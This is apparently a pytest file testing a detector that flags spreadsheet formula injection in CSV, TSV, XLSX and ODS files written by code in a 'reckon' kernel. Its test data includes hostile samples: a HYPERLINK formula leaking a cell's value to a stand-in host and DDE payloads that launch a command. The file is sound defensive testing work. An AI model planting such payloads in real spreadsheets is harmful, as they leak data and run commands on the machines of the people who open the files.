"""A spreadsheet file a cell writes keeps the formulas of an upload live in Excel or
LibreOffice (issue 32, U1): the run result says so, for every file and every form, and
leaves the file as the cell wrote it. Real cells in the real kernel, pandas writing
the files as a model's code would."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from kernel_helpers import Runner

from reckon.kernel._formulas import SCAN_BYTES, formula_cells

HOSTILE = '=HYPERLINK("http://127.0.0.1:9/leak?d="&B2,"Open the report")'
UPLOAD = (
    "name,salary,change,note\n"
    f'"{HOSTILE.replace(chr(34), chr(34) * 2)}",73400,-12.5,ok\n'
    "Bo,51000,+3%,-\n"
    "Cy,48000,-0.5,@SUM(1+9)*cmd|' /C calc'!A0\n"
    "Di,50500,-1e3,--\n"
)


def an_upload(a_session: Runner) -> Path:
    data = Path(a_session.session.data_dir)
    (data / "people.csv").write_text(UPLOAD)
    return data / "people.csv"


def written(result: dict[str, Any]) -> dict[str, Any]:
    assert result["status"] == "ok", result
    (entry,) = result["files"]
    return dict(entry)


@pytest.mark.parametrize(
    ("write", "first"),
    [
        pytest.param("df.to_csv('{out}/out.csv', index=False)", "line 2: =HYPERLINK(", id="csv"),
        pytest.param("df.to_csv('{out}/out.tsv', sep='\\t', index=False)", "line 2: ", id="tsv"),
        pytest.param("df.to_csv('{out}/out.csv', sep=';', index=False)", "line 2: ",
                     id="semicolons"),
        pytest.param("df.to_csv('{out}/out.csv', encoding='utf-16', index=False)", "line 2: ",
                     id="utf-16"),
        pytest.param("df.to_excel('{out}/out.xlsx', index=False)", "sheet 1, A2", id="xlsx"),
    ],
)  # fmt: skip
def test_formulas_an_upload_carries_into_a_written_file_are_named(
    a_session: Runner, write: str, first: str
) -> None:
    upload = an_upload(a_session)
    out = a_session.output_dir
    entry = written(a_session(f"df = read_table({str(upload)!r})\n" + write.format(out=out)))

    formulas = entry["formulas"]
    assert formulas["first"].startswith(first) and formulas["checked"] is True
    # The HYPERLINK and the DDE call, never the numbers (-12.5, +3%, -1e3) or dashes; in
    # a workbook only the HYPERLINK, which openpyxl stored as a formula ("@" stays text).
    assert formulas["count"] == (1 if ".xlsx" in write else 2)


def test_a_formula_cell_of_an_ods_file_is_named(a_session: Runner) -> None:
    code = (
        "from odf.opendocument import OpenDocumentSpreadsheet\n"
        "from odf.table import Table, TableCell, TableRow\n"
        "doc = OpenDocumentSpreadsheet()\n"
        "table = Table(name='Sheet1')\n"
        "row = TableRow()\n"
        f"row.addElement(TableCell(formula={'of:' + HOSTILE!r}))\n"
        "table.addElement(row)\n"
        "doc.spreadsheet.addElement(table)\n"
        f"doc.save('{a_session.output_dir}/book.ods')"
    )
    formulas = written(a_session(code))["formulas"]
    assert formulas["count"] == 1 and formulas["first"].startswith("of:=HYPERLINK(")


def test_the_run_says_so_on_stderr_and_the_file_is_left_as_written(a_session: Runner) -> None:
    upload = an_upload(a_session)
    result = a_session(
        f"df = read_table({str(upload)!r})\n"
        f"df.to_csv('{a_session.output_dir}/clean.csv', index=False)\nprint(len(df))"
    )
    entry = written(result)
    assert result["stdout"] == "4\n"
    note = result["stderr"]
    assert note.startswith("[reckon] ") and note.count("\n") == 1
    assert f"{entry['path']} has 2 cells that a spreadsheet program runs as formulas" in note
    assert '(first: line 2: =HYPERLINK(""http://127.0.0.1:9/leak?d="…)' in note
    assert "prefix each with an apostrophe (') before saving" in note
    written_text = (Path(a_session.output_dir) / "clean.csv").read_text()
    assert HOSTILE.replace('"', '""') in written_text  # not changed behind the cell's back


def test_a_file_of_numbers_and_text_has_no_warning(a_session: Runner) -> None:
    code = (
        "import pandas as pd\n"
        "df = pd.DataFrame({'n': [-12.5, 3, -1e5], 'pct': ['+3%', '-0.5%', '-'],\n"
        "                   'text': ['a - b', 'x=y', 'mail@example.org']})\n"
        "df.to_csv('{out}/plain.csv', index=False)\n"
        "df.to_excel('{out}/plain.xlsx', index=False)"
    ).replace("{out}", str(a_session.output_dir))
    result = a_session(code)
    assert result["status"] == "ok" and result["stderr"] == ""
    assert [f.get("formulas") for f in result["files"]] == [None, None]


def test_a_formula_past_the_first_megabytes_is_found_and_past_the_scan_said(
    a_session: Runner,
) -> None:
    rows = SCAN_BYTES // 20
    code = (
        f"with open('{a_session.output_dir}/big.csv', 'w') as f:\n"
        f"    f.write('a,b\\n' + '-1.25,text text\\n' * {rows // 2} + '=cmd|x!A0,1\\n'"
        f" + '-1.25,text text\\n' * {rows})"
    )
    entry = written(a_session(code))
    assert entry["formulas"]["count"] == 1 and entry["formulas"]["checked"] is False
    assert entry["formulas"]["first"] == f"line {rows // 2 + 2}: =cmd|x!A0"


@pytest.mark.parametrize(
    "content",
    [b"PK\x03\x04 not a zip", b"", b"\xff" * 1000],
    ids=["damaged", "empty", "binary"],
)
def test_a_file_that_cannot_be_read_gives_no_warning_and_no_error(
    a_session: Runner, content: bytes
) -> None:
    result = a_session(f"open('{a_session.output_dir}/x.xlsx', 'wb').write({content!r})")
    assert result["status"] == "ok" and result["stderr"] == ""
    assert formula_cells(result["files"][0]["path"]) is None if result["files"] else True


@pytest.mark.parametrize(
    ("cell", "formula"),
    [
        ("=1+1", True),
        ("@SUM(A1:A9)", True),
        ("+A1", True),
        ("-2+3+cmd|' /C calc'!A0", True),
        ("\t=HYPERLINK(1)", True),
        (" =HYPERLINK(1)", True),
        ("\r=HYPERLINK(1)", True),
        ("=cmd|' /C calc'!A0", True),
        ("+cmd|' /C calc'!A0", True),
        ("@SUM(1+1)*cmd|' /C calc'!A0", True),
        ('"=HYPERLINK(""http://127.0.0.1:9/?""&A2,""open"")"', True),
        ("- item", True),
        ("-12.5", False),
        ("+3%", False),
        ("-1e5", False),
        ("-", False),
        ("--", False),
        ("x=y", False),
        ("mail@example.org", False),
    ],
)  # fmt: skip
def test_the_owasp_rule_keeps_numbers_numbers(tmp_path: Path, cell: str, formula: bool) -> None:
    path = tmp_path / "one.csv"
    path.write_text(f"head,other\n1,{cell}\n")
    found = formula_cells(str(path))
    assert (found is not None) is formula, found
